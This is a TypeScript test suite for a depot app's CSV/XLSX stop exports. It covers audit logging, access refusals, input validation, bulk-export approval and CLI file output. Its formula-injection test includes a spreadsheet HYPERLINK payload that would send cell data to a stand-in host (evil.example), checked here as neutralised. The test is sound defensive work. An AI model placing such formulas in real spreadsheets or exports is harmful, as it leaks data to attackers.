/**
 * Exports over REST and the admin CLI, tried as a user, an attacker and an operator would: the
 * file and its header, formula injection, every refusal audited, absurd input refused with a
 * typed error, bulk exports refused until approved. SQLite and PostgreSQL.
 */
import fs from 'node:fs';
import path from 'node:path';
import { exportRowCountHeader, exportTableStartRow } from '@depotline/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAdminJson } from '../../test/admin-cli';
import {
  addExportFixtures, exportFrom, exportTo, parseCsv, pullEverything, readCsvExport, readXlsxExport, tableFromPull,
} from '../../test/export-files';
import { backends } from '../../test/harness';
import { buildWorld, rest, type World } from '../../test/world';

const range = `from=${exportFrom}&to=${exportTo}`;

describe.each(backends)('exports over REST and the CLI (%s)', (backend) => {
  let w: World;
  let hostileStopId: string;
  beforeAll(async () => {
    w = await buildWorld(backend, 3);
    ({ hostileStopId } = await addExportFixtures(w));
  });
  afterAll(async () => {
    await w?.dispose();
  });

  async function download(token: string | null, query: string, locationId = w.A) {
    const res = await fetch(`${w.server.url}/api/v1/locations/${locationId}/exports/stops?${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
    const body = Buffer.from(await res.arrayBuffer());
    return { status: res.status, body, headers: res.headers, json: () => JSON.parse(body.toString('utf8')) as { error: { code: string; message: string; issues?: string[] } } };
  }
  const exportAudits = (userId: string | null) => w.ctx.db.selectFrom('audit_log').selectAll().where('action', '=', 'export.stops')
    .where((eb) => (userId === null ? eb('actor_user_id', 'is', null) : eb('actor_user_id', '=', userId))).orderBy('seq').execute();
  const lastDetails = async (userId: string | null) => {
    const rows = await exportAudits(userId);
    const last = rows[rows.length - 1]!;
    return { outcome: last.outcome, locationId: last.location_id, actor: last.actor, details: JSON.parse(last.details) as Record<string, unknown> };
  };
  const withPolicy = async (policy: Partial<typeof w.ctx.config.exports>, run: () => Promise<void>) => {
    const saved = w.ctx.config;
    w.ctx.config = { ...saved, exports: { ...saved.exports, ...policy } };
    try {
      await run();
    } finally {
      w.ctx.config = saved;
    }
  };

  it('a file names who exported it, when, where, the range and classes, and its audit entry records the filters and the row count', async () => {
    const manager = w.users.manager;
    const csv = await download(manager.token, `${range}&format=csv&classes=operational,customer`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toBe(`attachment; filename="depotline-stops_depot-a_${exportFrom}_${exportTo}.csv"`);
    expect(csv.headers.get('cache-control')).toBe('no-store');
    const file = readCsvExport(csv.body);
    expect(csv.headers.get(exportRowCountHeader)).toBe(String(file.rows.length));
    expect(file.header).toEqual({
      'Depotline export': 'stops and routes, layout 1',
      'Exported by': 'manager-a (manager-a)',
      'Exported at': expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$/) as unknown,
      Location: 'depot-a (Depot depot-a)',
      'Time zone': 'Europe/Berlin',
      'Date range': `${exportFrom} to ${exportTo}`,
      'Data classes': 'operational,customer',
      Rows: String(file.rows.length),
    });
    // Routes in range only (route-a4 is after it), a route without stops as one row.
    expect([...new Set(file.rows.map((r) => r.route_id))]).toEqual([w.routes.A1, w.routes.A2, 'route-a3', 'route-a6', 'route-a7', 'route-a5']);
    expect(file.rows.filter((r) => r.route_id === 'route-a3')).toEqual([expect.objectContaining({ stop_id: '', route_name: 'Afternoon, "late" run' })]);
    expect(await lastDetails(manager.id)).toEqual({
      outcome: 'ok', locationId: w.A, actor: 'manager-a',
      details: { from: exportFrom, to: exportTo, classes: ['operational', 'customer'], format: 'csv', rowCount: file.rows.length, columns: file.columns.length },
    });

    const xlsx = await download(manager.token, `${range}&format=xlsx&classes=operational`);
    expect(xlsx.status).toBe(200);
    expect(xlsx.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(xlsx.headers.get('content-disposition')).toContain('.xlsx"');
    const sheet = await readXlsxExport(xlsx.body);
    expect(sheet.header['Data classes']).toBe('operational');
    expect(sheet.columns).not.toContain('phone');
    expect((await lastDetails(manager.id)).details).toMatchObject({ format: 'xlsx', classes: ['operational'], rowCount: sheet.rows.length });
  });

  it('cells that start like formulas are neutralised in CSV and XLSX, and read back exactly', async () => {
    const token = w.users.admin.token;
    const csv = await download(token, `${range}&classes=operational,customer`);
    const rows = parseCsv(csv.body);
    const columns = rows[exportTableStartRow - 1]!;
    const hostile = rows.slice(exportTableStartRow).find((r) => r[columns.indexOf('stop_id')] === hostileStopId)!;
    const cell = (k: string) => hostile[columns.indexOf(k)]!;
    expect(cell('customer_name')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Click")');
    expect(cell('address')).toMatch(/^'@SUM/);
    expect(cell('phone')).toBe("'-23 (555) 01");
    expect(cell('notes')).toBe('\'\tlooks like a tab, "quoted", comma\r\nsecond line');
    const anyPhone = rows.slice(exportTableStartRow).map((r) => r[columns.indexOf('phone')]!).filter((p) => p.includes('+49'));
    expect(anyPhone.length).toBeGreaterThan(0);
    expect(anyPhone.every((p) => p.startsWith("'+49"))).toBe(true);
    // No raw cell anywhere in the file starts with a formula character, except numbers the server wrote as numbers
    // (a western longitude is negative): a plain numeric literal is a value in every spreadsheet, never a formula.
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(rows.flat()).toContain('-0.125');
    // An order reference or barcode that looks like a formula is text like any other.
    const billed = rows.slice(exportTableStartRow).find((r) => r[columns.indexOf('order_ref')] === "'=ORDER(1)");
    expect(billed?.[columns.indexOf('barcodes')]).toBe('JJD01 +JJD02');

    const sheet = await readXlsxExport((await download(token, `${range}&format=xlsx&classes=operational,customer`)).body);
    const raw = sheet.raw.find((r) => r[sheet.columns.indexOf('stop_id')] === hostileStopId)!;
    expect(raw[sheet.columns.indexOf('customer_name')]).toMatch(/^'=HYPERLINK/);
    expect(sheet.rows.find((r) => r.stop_id === hostileStopId)).toMatchObject({ notes: '\tlooks like a tab, "quoted", comma\r\nsecond line', phone: '-23 (555) 01' });
  });

  it('refusals are audited as denied: a class the role lacks, another location, a location that does not exist', async () => {
    const reporting = w.users.reporting;
    const r1 = await download(reporting.token, `${range}&classes=operational,customer`);
    expect(r1.status).toBe(403);
    expect(r1.json().error.code).toBe('forbidden');
    expect(await lastDetails(reporting.id)).toMatchObject({ outcome: 'denied', details: { reason: 'permission', classes: ['operational', 'customer'] } });

    const manager = w.users.manager;
    for (const where of [w.B, 'depot-nowhere']) {
      const r = await download(manager.token, range, where);
      expect(r.status).toBe(403);
      expect(r.json().error.message).toBe('You do not have access to this.');
      expect(await lastDetails(manager.id)).toMatchObject({ outcome: 'denied', locationId: where, details: { reason: 'no_access' } });
    }
    expect((await download(null, range)).status).toBe(401);
  });

  it('absurd input is a typed 400 naming the problem, and changes nothing', async () => {
    const token = w.users.manager.token;
    const before = (await exportAudits(w.users.manager.id)).length;
    const cases: [string, string][] = [
      [`from=${exportTo}&to=${exportFrom}`, 'to: "to" is before "from"'],
      ['from=2026-02-30&to=2026-03-01', 'from: not a calendar date'],
      ['from=22.11.2026&to=2026-11-28', 'from: dates are YYYY-MM-DD'],
      ['from=2020-01-01&to=2026-11-28', 'to: a range covers at most 366 days'],
      [`${range}&classes=invoices`, 'classes: data classes are operational, customer, billing (comma-separated)'],
      [`${range}&format=pdf`, 'format:'],
      [`${range}&from=2026-11-01`, 'from:'],
      [`${range}&where=1`, 'Unrecognized key'],
    ];
    for (const [query, issue] of cases) {
      const r = await download(token, query);
      expect(r.status, query).toBe(400);
      expect(r.json().error.code).toBe('bad_request');
      expect(r.json().error.issues!.join('\n'), query).toContain(issue);
    }
    expect((await exportAudits(w.users.manager.id)).length).toBe(before);

    // Longer than the policy allows: refused, and audited (a policy refusal, not a typo).
    await withPolicy({ maxRangeDays: 3 }, async () => {
      const r = await download(token, range);
      expect(r.status).toBe(400);
      expect(r.json().error.issues).toEqual(['to: the range covers 7 days; an export covers at most 3 (EXPORT_MAX_RANGE_DAYS)']);
      expect(await lastDetails(w.users.manager.id)).toMatchObject({ outcome: 'denied', details: { reason: 'range_too_long' } });
    });
  });

  it('an export above the bulk limit is refused with approval_required and audited; at the limit it runs; preview says which', async () => {
    const manager = w.users.manager;
    const preview = await fetch(`${w.server.url}/api/v1/locations/${w.A}/exports/stops/preview?${range}&classes=operational,customer`, { headers: { authorization: `Bearer ${manager.token}` } });
    expect(preview.status).toBe(200);
    const p = await preview.json() as { rowCount: number; needsApproval: boolean; bulkRows: number; maxRangeDays: number; columns: string[] };
    expect(p).toMatchObject({ needsApproval: false, bulkRows: 5000, maxRangeDays: 31 });
    expect(p.columns).toContain('phone');
    const full = readCsvExport((await download(manager.token, `${range}&classes=operational,customer`)).body);
    expect(p.rowCount).toBe(full.rows.length);

    await withPolicy({ bulkRows: p.rowCount - 1 }, async () => {
      const before = await w.ctx.db.selectFrom('audit_log').select((eb) => eb.fn.countAll<number | string>().as('n')).where('outcome', '=', 'ok').where('action', '=', 'export.stops').executeTakeFirstOrThrow();
      const r = await download(manager.token, `${range}&classes=operational,customer`);
      expect(r.status).toBe(409);
      expect(r.json().error).toMatchObject({ code: 'approval_required', message: expect.stringContaining('approval') as unknown });
      expect(await lastDetails(manager.id)).toMatchObject({ outcome: 'denied', details: { reason: 'approval_required', rowCount: p.rowCount, bulkRows: p.rowCount - 1 } });
      const after = await w.ctx.db.selectFrom('audit_log').select((eb) => eb.fn.countAll<number | string>().as('n')).where('outcome', '=', 'ok').where('action', '=', 'export.stops').executeTakeFirstOrThrow();
      expect(Number(after.n)).toBe(Number(before.n));
      const pv = await fetch(`${w.server.url}/api/v1/locations/${w.A}/exports/stops/preview?${range}&classes=operational,customer`, { headers: { authorization: `Bearer ${manager.token}` } });
      expect(await pv.json()).toMatchObject({ rowCount: p.rowCount, needsApproval: true });
    });
    await withPolicy({ bulkRows: p.rowCount }, async () => {
      expect((await download(manager.token, `${range}&classes=operational,customer`)).status).toBe(200);
    });
    const refused = await fetch(`${w.server.url}/api/v1/locations/${w.A}/exports/stops/preview?${range}&classes=customer`, { headers: { authorization: `Bearer ${w.users.reporting.token}` } });
    expect(refused.status).toBe(403);
  });

  it('a bulk export runs once a second person approves it: downloaded once, by its requester only, audited with the approval', async () => {
    const { manager, admin } = w.users;
    const query = `${range}&classes=operational,customer`;
    const expected = readCsvExport((await download(manager.token, query)).body).rows;
    const fetchApproved = async (token: string, id: string) => {
      const res = await fetch(`${w.server.url}/api/v1/approvals/${id}/export`, { headers: { authorization: `Bearer ${token}` } });
      const body = Buffer.from(await res.arrayBuffer());
      return { status: res.status, body, code: res.status === 200 ? null : (JSON.parse(body.toString('utf8')) as { error: { code: string } }).error.code };
    };
    await withPolicy({ bulkRows: 1 }, async () => {
      expect((await download(manager.token, query)).status).toBe(409);
      const change = { locationId: w.A, from: exportFrom, to: exportTo, format: 'csv', classes: ['operational', 'customer'] };
      const asked = await rest(w, 'POST', '/approvals', manager.token, { kind: 'export.bulk', change, reason: 'month-end reconciliation' });
      expect(asked.status, JSON.stringify(asked.body)).toBe(202);
      const id = (asked.body as { approval: { id: string } }).approval.id;
      expect(await fetchApproved(manager.token, id)).toMatchObject({ status: 409, code: 'approval_closed' });
      expect(await lastDetails(manager.id)).toMatchObject({ outcome: 'denied', details: { reason: 'approval_closed', approvalId: id } });
      // Only its requester may use it; to anyone else it does not exist.
      expect(await fetchApproved(admin.token, id)).toMatchObject({ status: 404, code: 'not_found' });
      expect((await rest(w, 'POST', `/approvals/${id}/approve`, admin.token, {})).status).toBe(200);

      const file = await fetchApproved(manager.token, id);
      expect(file.status).toBe(200);
      expect(readCsvExport(file.body).rows).toEqual(expected);
      expect(await lastDetails(manager.id)).toMatchObject({ outcome: 'ok', details: { approvalId: id, rowCount: expected.length } });
      expect(await fetchApproved(manager.token, id)).toMatchObject({ status: 409, code: 'approval_closed' });
    });
  });

  it('depotline-admin export stops writes a new 0600 file as the operator, audited; refuses to overwrite and refuses bulk', async () => {
    const file = path.join(w.server.env.dir, 'stops.xlsx');
    const args = ['export', 'stops', '--location', w.A, '--from', exportFrom, '--to', exportTo, '--format', 'xlsx', '--classes', 'operational,customer', '--out', file];
    const run = await runAdminJson(w.server.env, args);
    expect(run.code, run.stderr).toBe(0);
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    const sheet = await readXlsxExport(fs.readFileSync(file));
    expect(sheet.header['Exported by']).toMatch(/^cli:.+ \(operator\)$/);
    const adminCsv = readCsvExport((await download(w.users.admin.token, `${range}&classes=operational,customer`)).body);
    expect(sheet.rows).toEqual(adminCsv.rows);
    expect(run.json).toMatchObject({ file, rowCount: sheet.rows.length, locationId: w.A, format: 'xlsx' });
    expect(await lastDetails(null)).toMatchObject({ outcome: 'ok', actor: expect.stringMatching(/^cli:/) as unknown, details: { rowCount: sheet.rows.length, format: 'xlsx' } });

    const again = await runAdminJson(w.server.env, args);
    expect(again.code).toBe(1);
    expect(JSON.stringify(again.json)).toContain('already exists');

    const bulkFile = path.join(w.server.env.dir, 'bulk.csv');
    const bulk = await runAdminJson(w.server.env, ['export', 'stops', '--location', w.A, '--from', exportFrom, '--to', exportTo, '--out', bulkFile], { extraEnv: { EXPORT_BULK_ROWS: '1' } });
    expect(bulk.code).toBe(1);
    expect(bulk.json).toMatchObject({ error: { code: 'approval_required' } });
    expect(fs.existsSync(bulkFile)).toBe(false);
    expect(await lastDetails(null)).toMatchObject({ outcome: 'denied', details: { reason: 'approval_required', bulkRows: 1 } });

    const bad = await runAdminJson(w.server.env, ['export', 'stops', '--location', w.A, '--from', exportTo, '--to', exportFrom, '--out', bulkFile]);
    expect(bad.code).toBe(1);
    expect(bad.json.error).toMatchObject({ code: 'bad_request', issues: ['--to: "to" is before "from"'] });
  });

  // Runs last: it alters a stored value.
  it('a customer value that does not decrypt is withheld and named in the withheld column; the export still runs and equals the pull', async () => {
    const [victim, donor] = [w.stops.A1[2]!.id, w.stops.A2[0]!.id];
    const { phone_enc } = await w.ctx.db.selectFrom('stops').select('phone_enc').where('id', '=', donor).executeTakeFirstOrThrow();
    // An insider moves another stop's phone ciphertext onto this one: bound to another row, it does not decrypt.
    await w.ctx.db.updateTable('stops').set({ phone_enc }).where('id', '=', victim).execute();
    const manager = w.users.manager;
    const r = await download(manager.token, `${range}&classes=operational,customer`);
    expect(r.status).toBe(200);
    const rows = readCsvExport(r.body).rows;
    expect(rows.find((x) => x.stop_id === victim)).toMatchObject({ phone: '', withheld: 'phone' });
    expect(rows.find((x) => x.stop_id === donor)!.phone).not.toBe('');
    expect(rows).toEqual(tableFromPull(await pullEverything(w, manager.token, w.A), ['operational', 'customer'], exportFrom, exportTo, 'Europe/Berlin'));
    const operational = readCsvExport((await download(w.users.reporting.token, range)).body);
    expect(operational.columns).not.toContain('withheld');
  });
});
